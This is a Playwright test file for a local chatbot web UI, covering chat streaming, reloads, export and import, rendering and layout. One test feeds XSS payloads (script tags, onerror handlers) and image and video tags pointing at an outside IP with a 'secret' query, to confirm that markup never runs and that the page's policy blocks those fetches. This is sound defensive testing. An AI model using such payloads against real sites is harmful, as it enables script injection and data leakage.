"""The web UI in a real headless browser: Debian's Chromium driven by Playwright, offline.

.venv/bin/python -m pytest tests/browser/test_browser.py -q
QWEN_UPDATE_SCREENSHOT=1 .venv/bin/python -m pytest tests/browser/test_browser.py -q  # also refresh assets/*.png

A person's path through the page: type a message, watch the thinking block and the answer stream
in under the precision badge, reload and find the conversation again, log in and press Stop during
a long answer and go on chatting; and markup in messages (from the user or the model) never runs.
Chromium comes from the system (``CHROMIUM_PATH`` or ``chromium`` on PATH), not from Playwright.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlparse

import pytest
from helpers.app import ROOT, WAIT_LIMIT_SECONDS, RunningApp, running_app
from helpers.browser import open_page, open_settings, send, set_slider, snap, wait_for_stats

from chatbot.authoring.modelgen import SCRIPTED_THINKING

SCREENSHOT = ROOT / "assets" / "screenshot.png"
LONG_REPLY_TOKENS = 16000  # within the server's cap and the long-context model: still running when a test acts
LOGIN = ("tester", "s3cret")
XSS_PAYLOADS = '<img src=x onerror="window.__xss = 1"> <script>window.__xss = 2</script>'

# Text that gives a page's reader away if the page fetches it: a Markdown image, an <img>, a <video>.
LEAKS = (
    "![pixel](http://203.0.113.9/leak?q=secret) <img src='http://203.0.113.9/leak2'> "
    "<video src='http://203.0.113.9/leak3' autoplay></video>"
)
# Tags that are not HTML's own: shown as text, with what follows them (they used to hide the rest of their
# paragraph; the random test model writes <think> and stray "<" before letters in its answers).
NOT_HTML = "Use cp <src> <dest> then, and List<T>, a stray <think> or <tool_call> tag: all shown."


@pytest.fixture(scope="module")
def demo_app_ui(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    """``python app.py --demo``, its generated model kept in a test folder instead of ~/.cache."""
    folder = tmp_path_factory.mktemp("browser")
    with running_app(["--demo"], folder / "demo.log", env={"XDG_CACHE_HOME": str(folder / "cache")}) as app:
        yield app


@pytest.fixture(scope="module")
def long_answer_app(long_context_fp8: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningApp]:
    """The random model behind a login (long answers come from the "Min new tokens" control)."""
    with running_app(
        ["--model", str(long_context_fp8), "--auth", ":".join(LOGIN)],
        tmp_path_factory.mktemp("browser") / "random.log",
        api=False,
    ) as app:
        yield app


def import_chat(page, path: Path, messages: list[dict]) -> None:
    """Import a chat file through the chats panel's Import button."""
    path.write_text(json.dumps(messages, ensure_ascii=False), encoding="utf-8")
    page.set_input_files("#qc-chats input[type=file]", str(path))


def is_outside(url: str) -> bool:
    parts = urlparse(url)
    return parts.scheme not in ("data", "blob") and parts.hostname not in ("127.0.0.1", "localhost")


LEAVING_NOISE = ("AbortError: signal is aborted", "Connection errored out")


def reload(page) -> None:
    """Reload the page. The page being left aborts its open requests (the app's event stream and
    heartbeat), and Gradio's script may log that as it goes, depending on timing; only those
    messages are dropped from ``page.errors``, and only from the reload itself."""
    before = len(page.errors)
    page.reload()
    page.errors[before:] = [e for e in page.errors[before:] if not any(n in e for n in LEAVING_NOISE)]


def test_chat_shows_thinking_answer_badge_and_survives_a_reload(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    requested: list[str] = []
    page = open_page(browser, demo_app_ui, requested)
    badge = page.inner_text("#qc-badge")
    assert re.search(r"FP8 native|FP16 fallback|BF16|FP32", badge)
    assert "demo model, random weights" in badge
    page.click("#qc-badge summary")  # the device, the weights' memory and the whole reason open on a click
    assert "weights" in page.inner_text("#qc-badge .qc-badge-more")

    send(page, "Hello! What are you?")
    page.wait_for_selector("#qc-chat .thought-group")  # the thinking block, apart from the answer
    assert page.input_value("#qc-message textarea") == ""
    stats = wait_for_stats(page, 1)
    assert re.search(r"[\d.]+ s to first token · [\d.]+ tokens/s · \d+ tokens", stats)
    assert page.locator("#qc-chat strong", has_text="demo model").count() == 1  # Markdown rendered
    assert page.locator("#qc-chat code", has_text="--model PATH").count() == 1
    assert "Thought for" in page.locator("#qc-chat .thought-group").first.inner_text()

    page.uncheck("#qc-thinking input")
    send(page, "你好！请用中文介绍一下你自己。")
    wait_for_stats(page, 2)
    assert page.locator("#qc-chat .thought-group").count() == 1  # the first turn keeps its thinking
    page.wait_for_selector("#qc-send", state="visible")  # Send is back once the conversation is stored

    reload(page)  # the conversation lives in this browser's storage
    page.wait_for_selector("#qc-chat .thought-group")
    assert "你好！请用中文介绍一下你自己。" in page.inner_text("#qc-chat")
    wait_for_stats(page, 2)

    page.wait_for_timeout(1000)  # let the restored chat settle before opening a block in it
    thought = page.locator("#qc-chat .thought-group").first
    closed_height = thought.bounding_box()["height"]
    thought.locator(".title").click()  # open the earlier thinking block
    page.wait_for_function(
        "([element, height]) => element.getBoundingClientRect().height > height + 10",
        arg=[thought.element_handle(), closed_height],
    )
    assert SCRIPTED_THINKING in thought.inner_text()
    page.wait_for_timeout(500)  # the opening animation
    page.mouse.move(0, 0)
    target = SCREENSHOT if os.environ.get("QWEN_UPDATE_SCREENSHOT") == "1" else tmp_path / "screenshot.png"
    page.screenshot(path=str(target))
    assert target.stat().st_size > 10_000
    assert [url for url in requested if is_outside(url)] == []  # works offline: nothing fetched from elsewhere
    page.context.close()


def test_markup_from_user_or_model_is_shown_or_cleaned_never_run_and_fetches_nothing(
    browser, demo_app_ui: RunningApp, tmp_path
) -> None:
    requested: list[str] = []
    page = open_page(browser, demo_app_ui, requested=requested)
    blocked: list[str] = []
    page.on("requestfailed", lambda request: "csp" in (request.failure or "").lower() and blocked.append(request.url))
    send(page, f"{XSS_PAYLOADS} {LEAKS}")
    wait_for_stats(page, 1)
    # Model output takes the same path as an imported conversation's answers and thinking.
    imported = tmp_path / "hostile.json"
    hostile = [
        {"role": "user", "content": NOT_HTML},
        {
            "role": "assistant",
            "content": f"{XSS_PAYLOADS} {LEAKS}\n\n{NOT_HTML}\n\n```html\n<b>code stays code</b>\n```",
            "thinking": f"{XSS_PAYLOADS} {NOT_HTML}",
        },
    ]
    imported.write_text(json.dumps(hostile), encoding="utf-8")
    page.set_input_files("#qc-chats input[type=file]", str(imported))
    page.wait_for_selector("#qc-chat .thought-group")
    page.locator("#qc-chat .thought-group .title").first.click()
    page.wait_for_timeout(500)
    chat_text = page.inner_text("#qc-chat")
    assert chat_text.count(NOT_HTML) == 3, chat_text  # question, answer and thinking, each whole
    assert "<b>code stays code</b>" in chat_text
    assert page.locator("#qc-chat [onerror]").count() == 0
    assert page.locator("#qc-chat script").count() == 0
    assert page.evaluate("window.__xss") is None
    # The page's policy: the browser refuses each fetch from elsewhere before it leaves (this machine has no
    # network: a fetch that left would fail too, but not for this reason).
    outside = [url for url in requested if is_outside(url)]
    assert outside and sorted(outside) == sorted(blocked), (outside, blocked)
    page.context.close()


def test_login_then_stop_halts_a_long_answer_and_the_chat_goes_on(browser, long_answer_app: RunningApp) -> None:
    page = open_page(browser, long_answer_app, login=LOGIN)
    open_settings(page)
    page.uncheck("#qc-thinking input")
    set_slider(page, "Max new tokens", LONG_REPLY_TOKENS)
    set_slider(page, "Min new tokens", LONG_REPLY_TOKENS)

    send(page, "Tell me a very long story.")
    page.wait_for_selector("#qc-stop", state="visible")
    assert not page.is_visible("#qc-send")
    page.wait_for_function(
        "() => [...document.querySelectorAll('#qc-chat .message.bot')].some(m => m.innerText.length > 200)"
    )
    page.click("#qc-stop")
    stats = wait_for_stats(page, 1, pattern="stopped")
    tokens = int(re.search(r"(?<![\d.])(\d+) tokens?(?!/)", stats).group(1))  # not "35.2 tokens/s"
    assert tokens < LONG_REPLY_TOKENS
    assert long_answer_app.cancelled_generations()[-1] == (tokens, LONG_REPLY_TOKENS)
    page.wait_for_selector("#qc-send", state="visible")

    set_slider(page, "Max new tokens", 16)
    send(page, "Now a short one.")
    assert "16 tokens" in wait_for_stats(page, 1, pattern=r"\b16 tokens")
    page.context.close()


# --- rendering: code, math, copy -------------------------------------------------------------------------

CPP_REPLY = "Here it is:\n\n```cpp\n#include <vector>\nint main() { std::vector<int> v; return 0; }\n```\n"
MATH_REPLY = "Inline \\(a^2 + b^2\\) and $e^{i\\pi}$, display \\[\\int_0^1 x\\,dx\\] and $$\\sum_{k=1}^{n} k$$ done."


def test_a_cpp_block_renders_also_after_a_reload(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    import_chat(
        page,
        tmp_path / "cpp.json",
        [
            {"role": "user", "content": "```cpp\nint add(int a, int b);\n```\nExplain this."},
            {"role": "assistant", "content": CPP_REPLY},
        ],
    )
    page.wait_for_selector("#qc-chat code:has-text('std::vector')")
    assert page.locator("#qc-chat code", has_text="int add(int a, int b);").count() == 1  # the user's block too
    assert "Here it is" in page.inner_text("#qc-chat")
    reload(page)
    page.wait_for_selector("#qc-chat code:has-text('std::vector')")
    assert not [e for e in page.errors if "class-name" in e], page.errors

    # Export is one click, at the top of the chats panel; "All" exports every chat of this browser.
    with page.expect_download() as download:
        page.click("#qc-export")
    exported = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert exported["messages"][1]["content"] == CPP_REPLY  # the source, ```cpp included
    with page.expect_download() as download:
        page.click("#qc-export-all")
    archive = json.loads(Path(download.value.path()).read_text(encoding="utf-8"))
    assert archive["format"] == "qwen3-chat-archive" and any(
        c["messages"][1]["content"] == CPP_REPLY for c in archive["chats"]
    )
    page.context.close()


def test_math_renders_in_all_four_delimiters(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    import_chat(
        page,
        tmp_path / "math.json",
        [
            {"role": "user", "content": "Some math please"},
            {"role": "assistant", "content": MATH_REPLY},
        ],
    )
    page.wait_for_selector("#qc-chat .katex")
    page.wait_for_function("() => document.querySelectorAll('#qc-chat .katex').length >= 4")
    assert page.locator("#qc-chat .katex-display").count() == 2  # \[...\] and $$...$$ on their own lines
    annotations = page.locator("#qc-chat annotation").all_text_contents()
    assert any("a^2 + b^2" in a for a in annotations) and any("e^{i\\pi}" in a for a in annotations)
    text = page.inner_text("#qc-chat")
    assert "\\(" not in text and "\\[" not in text and "$e" not in text
    snap(page, "screenshot-math.png", tmp_path)
    page.context.close()


def test_copy_puts_the_markdown_source_on_the_clipboard(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    answer = "**Bold** claim: a < b, and `x<y`.\n\n- one\n- two"
    import_chat(
        page,
        tmp_path / "copy.json",
        [
            {"role": "user", "content": "is a < b?"},
            {"role": "assistant", "content": answer, "thinking": "Compare a & b."},
        ],
    )
    page.wait_for_selector("#qc-chat strong:has-text('Bold')")

    def copied(row) -> str:
        row.hover()  # a message's buttons sit in the block that follows its row
        buttons = row.locator("xpath=following-sibling::div[contains(@class, 'message-buttons')][1]")
        buttons.locator("button[aria-label='Copy message']").click()
        return page.evaluate("navigator.clipboard.readText()")

    assert copied(page.locator("#qc-chat .message-wrap .message-row", has_text="Bold claim").last) == answer
    assert copied(page.locator("#qc-chat .message-wrap .message-row", has_text="is a < b?").first) == "is a < b?"
    thinking = page.locator("#qc-chat .message-wrap .message-row", has=page.locator(".thought-group")).first
    assert copied(thinking).split("\n", 1)[1].strip() == "Compare a & b."  # Gradio puts the title first
    page.context.close()


# --- chats: tabs, reloads, delete with undo, search ------------------------------------------------------


def chat_text(page) -> str:
    return page.inner_text("#qc-chat")


def test_two_tabs_keep_their_own_chats_across_reloads(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    first = open_page(browser, demo_app_ui)
    second = open_page(browser, demo_app_ui, context=first.context)  # same browser: shared localStorage
    send(first, "Tab one question")
    wait_for_stats(first, 1)
    send(second, "Tab two question")
    wait_for_stats(second, 1)
    second.wait_for_selector("#qc-send", state="visible")

    second.click("#qc-delete")  # deletes tab two's chat only, with an undo
    second.wait_for_function("() => !document.querySelector('#qc-chat').innerText.includes('Tab two question')")
    reload(first)
    first.wait_for_selector("#qc-chat .qc-stats")
    assert "Tab one question" in chat_text(first) and "Tab two question" not in chat_text(first)
    reload(second)
    second.wait_for_selector("#qc-list label:has-text('Tab one question')")
    assert "Tab one question" not in chat_text(second)  # the other tab's chat is listed, not shown

    # Undo brings the deleted chat back (before the reload the button is gone: delete again to test it).
    second.locator("#qc-list label", has_text="Tab one question").click()
    second.wait_for_selector("#qc-chat .qc-stats")
    assert "Tab one question" in chat_text(second)
    second.click("#qc-delete")
    second.wait_for_selector("#qc-undo-delete", state="visible")
    second.wait_for_function(
        "() => !localStorage.length || ![...Array(localStorage.length).keys()].some("
        "i => (localStorage.getItem(localStorage.key(i)) || '').includes('Tab one question'))"
    )
    second.click("#qc-undo-delete")
    second.wait_for_selector("#qc-list label:has-text('Tab one question')")
    assert "Tab one question" in chat_text(second)

    # Search filters the list by title and text.
    second.click("#qc-new")
    send(second, "Something about zebras")
    wait_for_stats(second, 1)
    second.click("#qc-search input")
    second.keyboard.type("zebra")  # typed, as a person does (the list follows each key)
    second.wait_for_function("() => document.querySelectorAll('#qc-list label').length === 1")
    assert "zebras" in second.inner_text("#qc-list")
    for _ in "zebra":
        second.keyboard.press("Backspace")
    second.wait_for_function("() => document.querySelectorAll('#qc-list label').length >= 2")
    snap(second, "screenshot-chats.png", tmp_path)

    second.click("#qc-rename input")
    second.keyboard.type("Zebra facts")
    second.get_by_role("button", name="Rename").click()
    second.wait_for_selector("#qc-list label:has-text('Zebra facts')")
    reload(second)  # the new title is stored
    second.wait_for_selector("#qc-list label:has-text('Zebra facts')")
    first.context.close()


def test_settings_are_kept_and_the_api_address_is_shown(browser, demo_app_ui: RunningApp) -> None:
    page = open_page(browser, demo_app_ui)
    assert page.locator("footer a", has_text="Use via API").count() == 0  # not Gradio's API page
    page.uncheck("#qc-thinking input")
    open_settings(page)
    page.get_by_text("Use from code (OpenAI API)").click()
    api_port = urlparse(demo_app_ui.api_url).port
    page.wait_for_selector(f"#qc-api-url:has-text(':{api_port}/v1')")
    assert "base_url=" in page.inner_text("#qc-api-snippet")
    page.get_by_label("Dark").check()
    page.wait_for_function("() => document.body.classList.contains('dark')")
    page.wait_for_timeout(500)  # the settings are saved on change
    reload(page)
    page.wait_for_selector('#qc-badge [data-status="ready"]')
    page.wait_for_function("() => !document.querySelector('#qc-thinking input').checked")
    page.wait_for_function("() => document.body.classList.contains('dark')")
    page.context.close()


def test_errors_show_once_and_the_context_meter_counts_as_you_type(browser, demo_app_ui: RunningApp) -> None:
    page = open_page(browser, demo_app_ui)
    page.fill("#qc-message textarea", "   ")
    page.click("#qc-send")
    page.wait_for_selector("#qc-notice .qc-notice")
    page.wait_for_timeout(500)
    assert page.locator(".toast-body").count() == 0  # the notice only, not a toast beside it
    page.fill("#qc-message textarea", "")
    page.type("#qc-message textarea", "hello")
    page.wait_for_selector("#qc-meter .qc-meter")
    first = int(re.search(r"([\d,]+) /", page.inner_text("#qc-meter")).group(1).replace(",", ""))
    page.type("#qc-message textarea", " and many more words to count here")
    page.wait_for_function(
        "(first) => { const m = /([\\d,]+) \\//.exec(document.querySelector('#qc-meter').innerText);"
        " return m && parseInt(m[1].replace(/,/g, '')) > first; }",
        arg=first,
    )
    page.context.close()


def test_versions_keyboard_new_chat_and_up_to_edit(browser, demo_app_ui: RunningApp) -> None:
    page = open_page(browser, demo_app_ui)
    page.uncheck("#qc-thinking input")
    send(page, "Remember this line")
    wait_for_stats(page, 1)
    page.wait_for_selector("#qc-send", state="visible")
    page.check("#qc-thinking input")
    page.get_by_role("button", name="↻ Regenerate").click()
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 2 of 2')")
    page.wait_for_selector("#qc-send", state="visible")
    assert page.locator("#qc-chat .thought-group").count() == 1  # the new answer thought first
    page.click("#qc-prev")
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 1 of 2')")
    assert page.locator("#qc-chat .thought-group").count() == 0  # the first answer, without thinking
    page.click("#qc-next")
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 2 of 2')")
    page.focus("#qc-message textarea")
    page.keyboard.press("ArrowUp")  # edits the last message: it comes back in the box
    page.wait_for_function("() => document.querySelector('#qc-message textarea').value === 'Remember this line'")
    page.keyboard.press("Control+Shift+O")
    page.wait_for_function("() => !document.querySelector('#qc-chat').innerText.includes('Remember this line')")
    page.context.close()


def test_a_phone_shows_the_chat_first(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui, viewport={"width": 390, "height": 844})
    page.wait_for_timeout(1000)  # the panels close once the page has drawn them
    box = page.locator("#qc-message textarea").bounding_box()
    assert box and 0 <= box["y"] < 844 and box["x"] >= 0
    center = page.evaluate(
        "() => { const el = document.elementFromPoint(195, 400); return el && el.closest('#qc-chat') !== null; }"
    )
    assert center, "something covers the chat"
    header = page.locator("#qc-header").bounding_box()
    assert header["height"] < 120
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 390  # nothing overflows sideways
    # Every button of the chat on the screen (not on a line that scrolls sideways without a hint), the context
    # meter whole, and no footer.
    for name in ("‹", "›", "↻ Regenerate", "↶ Undo", "✎ Edit last", "✕ Clear"):
        button = page.get_by_role("button", name=name, exact=True).bounding_box()
        assert button and button["x"] >= 0 and button["x"] + button["width"] <= 390 and button["y"] < 844, name
    meter = page.locator("#qc-meter .qc-meter")
    assert meter.bounding_box()["x"] + meter.bounding_box()["width"] <= 390
    assert meter.evaluate("(m) => m.scrollWidth <= m.clientWidth + 1"), "the meter is cut"
    assert not page.locator("footer").is_visible()
    snap(page, "screenshot-phone.png", tmp_path)
    page.context.close()


# --- long replies: reload, clear and Esc while streaming ---------------------------------------------------


def start_long_reply(page, text: str) -> None:
    page.uncheck("#qc-thinking input")
    set_slider(page, "Max new tokens", LONG_REPLY_TOKENS)
    set_slider(page, "Min new tokens", LONG_REPLY_TOKENS)
    send(page, text)
    page.wait_for_function(
        "() => [...document.querySelectorAll('#qc-chat .message.bot')].some(m => m.innerText.length > 200)"
    )


def test_reload_mid_reply_keeps_the_question_and_the_reply_so_far(browser, long_answer_app: RunningApp) -> None:
    page = open_page(browser, long_answer_app, login=LOGIN)
    open_settings(page)
    start_long_reply(page, "A question I must not lose")
    page.wait_for_timeout(1200)  # the reply is saved twice a second while it streams
    reload(page)
    page.wait_for_selector("#qc-chat .qc-stats:has-text('interrupted')")
    assert "A question I must not lose" in chat_text(page)
    assert page.locator("#qc-chat .message.bot").first.inner_text().strip()  # the partial reply is there
    page.context.close()


def test_clear_and_esc_during_a_reply(browser, long_answer_app: RunningApp) -> None:
    page = open_page(browser, long_answer_app, login=LOGIN)
    open_settings(page)
    start_long_reply(page, "Clear me while you write")
    page.click("text=✕ Clear")
    page.wait_for_selector("#qc-send", state="visible")
    # On a loaded machine the cleared chat can take a while to render: wait for it (a bound), then check
    # that nothing the stopped reply still sent brings the question back.
    page.wait_for_function(
        "() => document.querySelectorAll('#qc-chat .message').length === 0", timeout=WAIT_LIMIT_SECONDS * 1000
    )
    page.wait_for_timeout(1500)
    assert "Clear me while you write" not in chat_text(page)
    assert page.locator("#qc-chat .message").count() == 0

    start_long_reply(page, "Stop me with Esc")
    page.keyboard.press("Escape")
    wait_for_stats(page, 1, pattern="stopped")
    page.context.close()


# --- versions: edit any question, regenerate, switch, keep them in storage and files ---------------------


def edit_message(page, old_text: str, new_text: str) -> None:
    """Edit a question in place with Gradio's own edit button (shown on hover), then submit it."""
    row = page.locator("#qc-chat .message-wrap .message-row.user-row", has_text=old_text).first
    row.hover()
    buttons = row.locator("xpath=following-sibling::div[contains(@class, 'message-buttons')][1]")
    buttons.locator("button[aria-label='Edit']").click()
    box = page.locator("#qc-chat textarea").first
    box.fill(new_text)
    page.locator("#qc-chat button[aria-label='Submit']").first.click()


def test_edit_an_earlier_question_keeps_the_old_branch_as_a_version(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    page.uncheck("#qc-thinking input")
    send(page, "First question")
    wait_for_stats(page, 1)
    page.wait_for_selector("#qc-send", state="visible")
    send(page, "Second question")
    wait_for_stats(page, 2)
    page.wait_for_selector("#qc-send", state="visible")

    edit_message(page, "First question", "First question, edited")
    page.wait_for_selector("#qc-chat .qc-stats:has-text('question 2 of 2')")
    page.wait_for_selector("#qc-send", state="visible")
    wait_for_stats(page, 1)
    text = chat_text(page)
    assert "First question, edited" in text and "Second question" not in text  # answered again from there

    page.locator("#qc-chat .qc-step-prev").first.click()  # ‹: back to the first version
    page.wait_for_selector("#qc-chat .qc-stats:has-text('question 1 of 2')")
    page.wait_for_function("() => document.querySelector('#qc-chat').innerText.includes('Second question')")
    assert "First question, edited" not in chat_text(page)

    # The later answer is regenerated in this branch: its versions are its own.
    page.get_by_role("button", name="↻ Regenerate").click()
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 2 of 2')")
    page.wait_for_selector("#qc-send", state="visible")
    reload(page)  # versions are saved with the chat
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 2 of 2')")
    assert "question 1 of 2" in chat_text(page) and "Second question" in chat_text(page)
    page.locator("#qc-chat .qc-step-next").first.click()  # ›: the edited branch again
    page.wait_for_selector("#qc-chat .qc-stats:has-text('question 2 of 2')")
    assert "Second question" not in chat_text(page) and "First question, edited" in chat_text(page)
    snap(page, "screenshot-versions.png", tmp_path)

    with page.expect_download() as download:
        page.click("#qc-export")
    exported = tmp_path / "versions.json"  # the Import button takes .json files
    exported.write_bytes(Path(download.value.path()).read_bytes())
    first = json.loads(exported.read_text(encoding="utf-8"))["messages"][0]
    assert first["version"] == 1 and [v["content"] for v in first["versions"]] == [
        "First question",
        "First question, edited",
    ]
    hidden = first["versions"][0]["after"]  # the branch not shown, with its own regenerated answer
    assert [m["content"] for m in hidden if m["role"] == "user"] == ["Second question"]
    assert len(hidden[-1]["versions"]) == 2

    page.click("#qc-new")
    page.wait_for_function("() => !document.querySelector('#qc-chat').innerText.includes('First question')")
    page.set_input_files("#qc-chats input[type=file]", str(exported))  # the file imports with its versions
    page.wait_for_selector("#qc-chat .qc-stats:has-text('question 2 of 2')")
    page.locator("#qc-chat .qc-step-prev").first.click()
    page.wait_for_selector("#qc-chat .qc-stats:has-text('answer 2 of 2')")
    assert "Second question" in chat_text(page)
    assert not page.errors, page.errors
    page.context.close()


def test_tool_calls_and_results_show_as_folded_blocks(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    call = {"id": "call_7", "type": "function", "function": {"name": "get_weather", "arguments": '{"city": "Paris"}'}}
    import_chat(
        page,
        tmp_path / "tools.json",
        [
            {"role": "user", "content": "Weather in Paris?"},
            {"role": "assistant", "content": None, "tool_calls": [call]},
            {"role": "tool", "tool_call_id": "call_7", "content": '{"temperature": 18, "sky": "sunny"}'},
            {"role": "assistant", "content": "It is **18 °C** and sunny."},
        ],
    )
    page.wait_for_selector("#qc-chat strong:has-text('18 °C')")
    # The context meter counts the imported chat, its call and result included.
    page.wait_for_function("() => parseInt(document.querySelector('#qc-meter').innerText.replace(/,/g, '')) > 30")
    titles = page.locator("#qc-chat .thought-group .title").all_inner_texts()
    assert any("Tool call: get_weather" in t and '"city": "Paris"' in t for t in titles), titles
    assert any("Tool result: get_weather" in t and '"sky": "sunny"' in t for t in titles), titles
    result = page.locator("#qc-chat .thought-group", has_text="Tool result").first
    result.locator(".title").click()  # opens like a thinking block: the result laid out as JSON code
    page.wait_for_function(
        "(element) => [...element.querySelectorAll('code')].some(c => c.innerText.includes('\"temperature\": 18'))",
        arg=result.element_handle(),
    )
    assert '"role"' not in chat_text(page) and "tool_call_id" not in chat_text(page)  # no raw message JSON
    page.wait_for_timeout(500)  # the opening animation
    snap(page, "screenshot-tools.png", tmp_path)
    send(page, "And tomorrow?")  # the chat goes on: the calls and the result are sent back as written
    wait_for_stats(page, 1)
    assert not page.errors, page.errors
    page.context.close()


# --- shortcuts, scrolling, kept settings, "Export all" back in --------------------------------------------


def test_ctrl_slash_opens_the_shortcuts_and_sending_scrolls_to_the_bottom(
    browser, demo_app_ui: RunningApp, tmp_path
) -> None:
    page = open_page(browser, demo_app_ui)
    assert not page.get_by_text("edit the last message").is_visible()
    page.focus("#qc-message textarea")
    page.keyboard.press("Control+/")
    page.get_by_text("edit the last message").wait_for(state="visible")

    long_chat = []
    for i in range(12):
        long_chat += [{"role": "user", "content": f"Question {i}"}, {"role": "assistant", "content": "Long.\n\n" * 12}]
    import_chat(page, tmp_path / "long.json", long_chat)
    page.wait_for_selector("#qc-chat .message-row:has-text('Question 11')")
    log = "document.querySelector('#qc-chat .bubble-wrap')"
    page.wait_for_function(f"() => {log}.scrollHeight > {log}.clientHeight * 2")
    page.hover("#qc-chat .message-row:has-text('Question 11')")
    # The reader scrolls up to the start, as a person does. The chat's own scroll to the newest message
    # fires up to 300 ms after a render, so on a slow machine a first wheel can be undone; a person then
    # scrolls again, and so does the test.
    for _ in range(20):
        page.mouse.wheel(0, -20000)
        page.wait_for_timeout(500)
        if page.evaluate(f"() => {log}.scrollTop") == 0:
            break
    page.wait_for_function(f"() => {log}.scrollTop === 0")
    send(page, "Now at the bottom?")
    page.wait_for_selector("#qc-chat .message-row:has-text('Now at the bottom?')")
    wait_for_stats(page, 1)
    page.wait_for_function(f"() => {log}.scrollTop + {log}.clientHeight >= {log}.scrollHeight - 80")
    page.context.close()


def test_sampling_sliders_are_kept_across_a_reload(browser, demo_app_ui: RunningApp) -> None:
    page = open_page(browser, demo_app_ui)
    open_settings(page)
    set_slider(page, "Temperature", 0.3)
    set_slider(page, "Top k", 7)
    page.wait_for_timeout(500)  # the settings are saved on change
    reload(page)
    page.wait_for_selector('#qc-badge [data-status="ready"]')
    slider = '#qc-sidebar input[aria-label="range slider for {}"]'
    page.wait_for_function(f"() => document.querySelector('{slider.format('Temperature')}').value === '0.3'")
    page.wait_for_function(f"() => document.querySelector('{slider.format('Top k')}').value === '7'")
    page.context.close()


def test_an_export_all_file_imports_every_chat(browser, demo_app_ui: RunningApp, tmp_path) -> None:
    page = open_page(browser, demo_app_ui)
    for question in ("Archive one", "Archive two"):
        page.click("#qc-new")
        send(page, question)
        wait_for_stats(page, 1)
        page.wait_for_selector("#qc-send", state="visible")
    page.wait_for_selector("#qc-list label:has-text('Archive two')")
    with page.expect_download() as download:
        page.click("#qc-export-all")
    archive = tmp_path / "all.json"
    archive.write_bytes(Path(download.value.path()).read_bytes())
    page.context.close()

    fresh = open_page(browser, demo_app_ui)  # another browser profile: nothing saved yet
    assert fresh.locator("#qc-list label").count() == 0
    fresh.set_input_files("#qc-chats input[type=file]", str(archive))
    fresh.wait_for_selector("#qc-notice:has-text('Imported 2 chats')")
    fresh.wait_for_selector("#qc-list label:has-text('Archive one')")
    fresh.wait_for_selector("#qc-list label:has-text('Archive two')")
    fresh.locator("#qc-list label", has_text="Archive one").click()
    fresh.wait_for_selector("#qc-chat .message-row:has-text('Archive one')")
    reload(fresh)  # the imported chats are kept in this browser
    fresh.wait_for_selector("#qc-list label:has-text('Archive two')")
    fresh.context.close()
